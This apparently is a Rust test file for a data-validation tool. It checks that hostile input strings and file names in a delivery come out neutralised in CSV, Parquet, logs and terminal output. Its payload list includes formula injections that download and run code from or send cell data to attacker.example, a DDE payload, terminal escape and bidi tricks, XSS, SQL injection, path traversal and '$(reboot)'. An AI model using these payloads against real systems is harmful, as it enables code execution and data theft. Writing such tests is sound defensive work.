//! Texts that would act on a terminal, a spreadsheet, a database or a page: they come through, and act on nothing.

use std::{collections::BTreeMap, path::Path, process::Command};

use serde_json::Value;

use crate::harness::{Project, Sheet, Spoken, files, parquet_cells, read};

/// What people have tried, and what stands in exports by accident.
fn nasty() -> Vec<String> {
    let texts = [
        // Formulas: those of OWASP's list and their disguises.
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker.example/a.exe)'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"look\")",
        "=IMPORTXML(CONCAT(\"http://attacker.example/\",A1:E1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=1+1\";=1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u{feff}=1+1",
        "\u{200b}\u{a0}@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1+1",
        "＠SUM(A1)",
        "'=1+1",
        "'",
        "-",
        "-12",
        "+3.5",
        "-0.5%",
        // Terminals.
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}[31mred",
        "\u{9b}31mred",
        "\u{90}q\u{9c}",
        "a\u{8}\u{8}\u{7f}b",
        "a\u{c}\u{b}b",
        "a\rb",
        "line\n2026-01-01 ERROR forged",
        "line\u{85}next\u{2028}next\u{2029}next",
        // The direction of writing.
        "\u{202e}gpj.exe",
        "\u{2066}a\u{2069}\u{2067}b\u{2068}",
        "\u{200f}a\u{200e}b\u{61c}c",
        // What is not seen.
        "a\u{200b}b\u{200d}c\u{2060}d\u{ad}",
        // Markup, queries, paths, templates.
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "]]><!--",
        "\"; DROP TABLE x; --",
        "' OR '1'='1",
        "Robert'); DELETE FROM cases;--",
        "update_",
        "../../../../etc/passwd",
        "C:\\..\\secret",
        "$(reboot)",
        "`reboot`",
        "{{7*7}}",
        "${7*7}",
        "%s%n%x",
        "\\u{1b}[2J",
        "NULL",
        "#REF!",
        "👩‍👩‍👧‍👧 Zoë – “东” عمر",
    ];
    let long = format!("={}", "long ".repeat(1_000)).trim_end().to_owned();
    let mut texts: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
    texts.push(long);
    texts
}

const NOTES: &str = r#"version: 1
table: notes
source: { files: "*notes.csv", required: true }
key: [ref]
columns:
  ref: { type: string, clean: [], unique: error }
  text:
    type: string
    clean: []
    pattern: { regex: "never", severity: error, why: "A \e[31mreason\u202E that acts." }
  trimmed: { type: string }
  code:
    type: string
    clean: []
    accepted_values: { values: [New, "=Old", "@Closed"], severity: warn, why: Codes are known. }
  day: { type: date }
  group: { type: string, clean: [] }
rules:
  - id: notes.groups
    check: { duplicates: { columns: [group] } }
    why: Groups are one.
  - id: notes.same
    check:
      probable_duplicates:
        compare:
          - { column: text, as: code }
          - { column: code, as: code }
          - { column: group, as: code }
        block_on: [[text]]
        min_probability: 0.01
    why: Notes are written once.
"#;

const COUNTED: &str = "-- One row for each text.
SELECT '=2020' AS period, '+all' AS population, text AS category, CAST(min(_row) AS BIGINT) AS sort,
  count(*) AS count, CAST(NULL AS BIGINT) AS base, CAST(NULL AS DOUBLE) AS share
FROM notes GROUP BY text ORDER BY sort
";

const TOTALS: &str = "version: 1
statements:
  - id: printed.twice
    check:
      equals:
        left: { table: notes, origin: body, measure: count }
        right: { table: notes, origin: chart, measure: count }
        by: [period, population, category]
    severity: warn
    why: They are one.
";

/// A line of CSV, every cell in quotes.
fn line(cells: &[&str]) -> String {
    let quoted = |cell: &&str| format!("\"{}\"", cell.replace('"', "\"\""));
    cells.iter().map(quoted).collect::<Vec<_>>().join(",") + "\n"
}

/// An export: the declared columns, and as many again as there are texts, called by them.
fn export(texts: &[String]) -> String {
    let mut header = vec![
        "ref", "text", "trimmed", "code", "day", "group", "", "twice", "twice",
    ];
    let declared = header.len();
    header.extend(texts.iter().map(String::as_str));
    let mut export = line(&header);
    for text in texts {
        let padded = format!(" {text} ");
        let mut cells = vec![text.as_str(), text, &padded, text, text, text];
        cells.resize(declared + texts.len(), text);
        export += &line(&cells);
    }
    export
}

/// Names of files that no table has, but those that hold notes.
const NAMES: [&str; 14] = [
    "\u{1b}[2Jnotes.csv",
    "=1+1notes.csv",
    "\u{1b}[2Jcases.csv",
    "\u{1b}]0;owned\u{7}.csv",
    "=1+1.csv",
    "@SUM(A1).csv",
    "-rf",
    "\u{202e}vsc.exe",
    "\u{9b}2J.csv",
    "a\nERROR forged.csv",
    "\"; DROP TABLE x; --.csv",
    "<script>alert(1)<!script>.csv",
    "$(reboot).csv",
    "{{7*7}}%s%n.csv",
];

fn project(texts: &[String]) -> Project {
    let mut figures =
        "section,table,origin,period,population,category,measure,value,printed,line\n".to_owned();
    // A figure stands on one line and is no longer than that.
    let on_a_line = texts
        .iter()
        .filter(|text| text.len() < 4_096 && !text.contains(['\n', '\r']));
    for (at, text) in on_a_line.enumerate() {
        let value = (at + 1).to_string();
        for (origin, value) in [("body", value.as_str()), ("chart", "1")] {
            let number = format!("{}", at + 1);
            figures += &line(&[
                "1", "notes", origin, "=2020", "+all", text, "count", value, value, &number,
            ]);
        }
    }
    let about = "version: 1\nname: \"=A \\e]0;x\\a \\u202E project\"\ndelivery: { path: delivery, as_of: 2020-06-01 }\n\
         published: { files: \"published/*.csv\" }\ngates: { max_rejects: 10 }\n";
    let project = Project::of(&[
        ("rules/project.yaml", about),
        ("rules/tables/notes.yaml", NOTES),
        ("rules/totals/printed.yaml", TOTALS),
        ("sql/aggregates/notes.sql", COUNTED),
        ("published/=figures.csv", &figures),
    ]);
    for name in NAMES {
        project.write(&format!("delivery/{name}"), export(texts));
    }
    let mut second = export(texts);
    second += "=1+1,\u{1b}[2J\n";
    second += &"=1\0,".repeat(texts.len() + 9);
    project.write("delivery/=1+1notes.csv", second);
    project
}

/// What would act on a terminal, a line break excepted.
fn acting(text: &str) -> Option<char> {
    text.chars().find(|c| {
        let turns = "\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
        (c.is_control() && *c != '\n') || turns.contains(*c)
    })
}

fn acts_on_nothing(place: &str, text: &str) {
    let found = acting(text).and_then(|c| text.lines().find(|line| line.contains(c)));
    assert_eq!(found, None, "{place}");
}

fn speaks_harmlessly(what: &str, spoken: &Spoken) {
    acts_on_nothing(&format!("{what}: stdout"), &spoken.stdout);
    acts_on_nothing(&format!("{what}: stderr"), &spoken.stderr);
}

fn command(project: &Project, words: &[&str]) -> Command {
    let mut command = project.command_of(words[0]);
    command.args(&words[1..]);
    command
}

/// Whether a spreadsheet takes a cell for a formula.
fn is_evaluated(cell: &str) -> bool {
    let seen = cell.trim_start_matches([' ', '\u{a0}', '\u{feff}', '\u{200b}', '\u{2060}']);
    let number = seen.trim_end_matches('%').parse::<f64>().is_ok();
    seen.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠',
    ]) && !number
}

/// A text as CSV shows it, but for the apostrophe.
fn shown(text: &str) -> String {
    let escaped = |c: char| match c {
        '\t' | '\n' => c.to_string(),
        c if acting(&c.to_string()).is_some() => c.escape_default().to_string(),
        c => c.to_string(),
    };
    text.chars().map(escaped).collect()
}

/// Reads every CSV of a run as a spreadsheet does, and beside its Parquet twin; returns how many cells have an apostrophe.
fn sheets_are_harmless(run: &Path) -> usize {
    let (mut apostrophes, mut sheets) = (0, 0);
    for (name, path) in files(run).iter().filter(|(name, _)| name.ends_with(".csv")) {
        let sheet = Sheet::read(path);
        let twin = parquet_cells(&path.with_extension("parquet"));
        assert_eq!(sheet.rows.len(), twin.len(), "{name}");
        assert!(
            sheet.header.iter().all(|name| !is_evaluated(name)),
            "{name}"
        );
        for (row, twin) in sheet.rows.iter().zip(&twin) {
            for column in &sheet.header {
                let cell = &row[column];
                let place = format!("{name}: {column} is {cell:?}");
                assert!(!is_evaluated(cell), "{place}");
                assert_eq!(acting(&cell.replace('\t', "")), None, "{place}");
                let text = twin[column].clone().unwrap_or_default();
                assert_eq!(
                    cell.strip_prefix('\'').unwrap_or(cell),
                    shown(&text),
                    "{place}"
                );
                apostrophes += usize::from(cell.starts_with('\''));
            }
        }
        sheets += 1;
    }
    assert!(sheets > 7, "{sheets} sheets");
    apostrophes
}

#[test]
fn nothing_in_a_delivery_acts_on_who_looks_at_a_run() {
    let texts = nasty();
    let project = project(&texts);
    for format in ["text", "json"] {
        let spoken = Spoken::of(&mut command(&project, &["run", "-vv", "--format", format]));
        let spoken = spoken.expect(0);
        speaks_harmlessly(format, &spoken);
        assert!(
            spoken.stderr.lines().count() > 5,
            "-vv says more: {}",
            spoken.stderr
        );
        assert!(
            !spoken.stderr.lines().any(|line| line.starts_with("ERROR")),
            "{}",
            spoken.stderr
        );
        if format == "json" {
            let values = spoken
                .stderr
                .lines()
                .map(|line| serde_json::from_str::<Value>(line).expect("JSON"));
            let files: Vec<Value> = values
                .map(|value| value["fields"]["file"].clone())
                .collect();
            assert!(files.contains(&Value::from(NAMES[0])), "{files:?}");
        }
    }
    let run = project.path("out/current");
    assert!(sheets_are_harmless(&run) > 1_000);
    crate::workbooks::hostile(&run);
    for name in ["manifest.json", "run_results.json"] {
        let text = read(&run.join(name));
        acts_on_nothing(name, &text);
        serde_json::from_str::<Value>(&text).expect("JSON");
    }
    let manifest = trueup::publish::check_run(&run).expect("a whole run");
    let inputs: Vec<&str> = manifest
        .inputs
        .iter()
        .map(|input| input.path.as_str())
        .collect();
    assert_eq!(inputs, [NAMES[0], NAMES[1], "published/=figures.csv"]);

    // What was delivered is in the clean table, byte for byte.
    let clean = parquet_cells(&run.join("clean/notes.parquet"));
    for (column, trimmed) in [
        ("ref", false),
        ("text", false),
        ("code", false),
        ("group", false),
        ("trimmed", true),
    ] {
        let got: Vec<&str> = clean
            .iter()
            .filter_map(|row| row[column].as_deref())
            .collect();
        let blank =
            |c: char| c.is_whitespace() || "\u{feff}\u{200b}\u{200d}\u{2060}\u{180e}".contains(c);
        let want = |text: &'_ str| match trimmed {
            true => text.trim_matches(blank).to_owned(),
            false => text.to_owned(),
        };
        let want: Vec<String> = texts.iter().chain(&texts).map(|text| want(text)).collect();
        assert_eq!(got, want, "{column}");
    }

    // Everything is told, in words that are short and act on nothing.
    let log = parquet_cells(&run.join("discrepancies.parquet"));
    let of = |rule: &str| {
        log.iter()
            .filter(|row| row["rule_id"].as_deref() == Some(rule))
            .count()
    };
    assert_eq!(of("notes.columns"), 2 * (texts.len() + 3));
    assert_eq!(of("notes.rejects"), 2);
    assert_eq!(of("delivery.unclaimed"), NAMES.len() - 2);
    assert_eq!(of("notes.text.pattern"), 2 * texts.len());
    for row in &log {
        let message = row["message"].as_deref().unwrap_or_default();
        acts_on_nothing("message", message);
        assert!(
            !message.contains('\n') && message.chars().count() < 1_000,
            "{message:?}"
        );
    }
    for part in [
        "has a column `update_` that",
        "has a column without a name that",
        "has a column `\\u{1b}[2J\\u{1b}[H` that",
        "has a column `=long long",
        "long long (5000 characters)` that",
        "\\u{1b}[2Jcases.csv is a file of the delivery",
        "a\\nERROR forged.csv is a file of the delivery",
        "text is `=1+1`; expected",
        "text is `\\u{1b}[31mred`; expected",
        "A \\u{1b}[31mreason\\u{202e} that acts.",
    ] {
        let told = |row: &BTreeMap<String, Option<String>>| {
            row["message"]
                .as_deref()
                .is_some_and(|message| message.contains(part))
        };
        assert!(log.iter().any(told), "{part}");
    }
}

#[test]
fn nothing_in_a_delivery_acts_on_who_asks_about_it() {
    let texts = nasty();
    let project = project(&texts);
    let spoken = Spoken::of(&mut command(&project, &["run"])).expect(0);
    speaks_harmlessly("run", &spoken);
    let log = parquet_cells(&project.path("out/current/discrepancies.parquet"));
    let mut asked: Vec<String> = [
        "notes.text.pattern",
        "notes.columns",
        "printed.twice",
        "pattern",
    ]
    .map(str::to_owned)
    .to_vec();
    for rule in [
        "notes.columns",
        "notes.rejects",
        "delivery.unclaimed",
        "notes.code.accepted_values",
        "notes.same",
        "printed.twice",
    ] {
        let of_rule = log
            .iter()
            .filter(|row| row["rule_id"].as_deref() == Some(rule));
        asked.extend(
            of_rule
                .step_by(17)
                .take(3)
                .filter_map(|row| row["discrepancy_id"].clone()),
        );
    }
    assert!(asked.len() > 14, "{asked:?}");
    let file = format!("delivery/{}", NAMES[0]);
    let mut all: Vec<Vec<&str>> = vec![
        vec!["profile", &file, "--show-values"],
        vec!["profile", &file, "--show-values", "--format", "json"],
        vec!["profile", &file, "--suggest"],
        vec!["lint"],
        vec!["lint", "--format", "json"],
        vec!["test"],
        vec!["test", "--format", "json"],
        vec!["export", "odcs"],
    ];
    for word in &asked {
        all.push(vec!["explain", word]);
        all.push(vec!["explain", word, "--format", "json"]);
    }
    for words in all {
        let spoken = Spoken::of(&mut command(&project, &words));
        assert!(
            spoken.code.is_some_and(|code| code < 3),
            "{words:?}: {}",
            spoken.stderr
        );
        assert!(spoken.stdout.len() + spoken.stderr.len() > 20, "{words:?}");
        speaks_harmlessly(&format!("{words:?}"), &spoken);
    }
}

#[test]
fn no_error_repeats_what_acts() {
    let texts = nasty();
    let project = project(&texts);
    let odd = "odd\u{1b}[2J\u{202e}\u{9b}";
    let folder = |what: &str, header: &str| {
        let place = format!("{odd}{what}");
        project.write(&format!("{place}/{odd}notes.csv"), header);
        place
    };
    let long = format!("ref{},text\n", "!".repeat(5_000));
    let deliveries = [
        folder("missing", "\u{1b}[2Jref,\u{202e}text\n"),
        folder("nul", "ref,te\0xt\n"),
        folder("open", "ref,\"\u{1b}[2J\n"),
        folder("empty", ""),
        folder("long", &long),
        format!("{odd}nowhere"),
    ];
    let mistakes = project.path("mistakes");
    for name in ["rules", "sql"] {
        project.copy(name, &format!("mistakes/{name}"));
    }
    let key = "k".repeat(900);
    project.write(
        "mistakes/rules/tables/odd.yaml",
        format!("version: 1\ntable: \"\\e[2J\\u202E\"\n\"\\e]0;x\\a\": 1\n\"\\u202E{key}\": 2\nsource: {{ files: \"\\e.csv\" }}\ncolumns: {{ a: {{ type: \"\u{2066}x\u{9b}\" }} }}\n"),
    );
    project.write(
        "mistakes/rules/tables/raw.yaml",
        "version: 1\n# \u{1b}[2J\ntable: \u{1b}[2J\u{202e} \u{9b}\n",
    );
    project.write(
        "mistakes/rules/reference/odd.csv",
        "code,label,parent,sort,missing,valid_from,valid_to\n\u{1b}[2J,\u{202e},,,,,\n\u{1b}[2J,a,\u{9b},,,,\n",
    );
    project.write(
        "mistakes/sql/model/other.sql",
        "SELECT '\u{1b}[2J' AS \"\u{202e}\", \u{9b} FROM \"\u{1b}\"\n",
    );
    project.write(
        &format!("mistakes/rules/tables/{odd}.yaml"),
        "no: \t\"table\u{7}\n",
    );
    let mistakes = mistakes.to_string_lossy();
    let profiled = format!("{}/{odd}notes.csv", deliveries[1]);
    let mut all: Vec<(Vec<&str>, i32)> = vec![
        (vec!["lint", "--project", &mistakes], 2),
        (vec!["lint", "--project", odd], 2),
        (vec!["run", "--project", &mistakes], 2),
        (vec!["test", "--project", &mistakes], 2),
        (vec!["run", "--select", odd], 2),
        (vec!["run", odd], 2),
        (vec!["run", "--as-of", odd], 2),
        (vec!["explain", odd], 2),
        (vec!["profile", &profiled], 3),
        (vec!["import", "odcs", odd], 3),
    ];
    all.extend(
        deliveries
            .iter()
            .map(|place| (vec!["run", "--delivery", place], 3)),
    );
    for (words, code) in all {
        for format in ["text", "json", "sarif"] {
            if format == "sarif" && words[0] != "lint" {
                continue;
            }
            let mut words = words.clone();
            words.extend(["--format", format]);
            let spoken = Spoken::of(&mut command(&project, &words));
            assert_eq!(
                spoken.code,
                Some(code),
                "{words:?}: {}{}",
                spoken.stdout,
                spoken.stderr
            );
            assert!(spoken.stdout.len() + spoken.stderr.len() > 10, "{words:?}");
            speaks_harmlessly(&format!("{words:?}"), &spoken);
            let longest = spoken.stderr.lines().map(str::len).max();
            assert!(format != "text" || longest < Some(3_000), "{words:?}");
        }
    }
}
